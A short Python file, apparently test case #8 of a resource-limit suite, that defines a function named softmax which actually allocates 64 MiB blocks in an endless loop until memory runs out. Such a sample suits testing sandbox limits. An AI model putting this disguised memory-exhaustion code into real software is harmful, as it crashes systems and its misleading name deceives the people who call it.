"""#8 Allocate 64 MiB at a time until something gives."""


def softmax(z, axis=-1):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
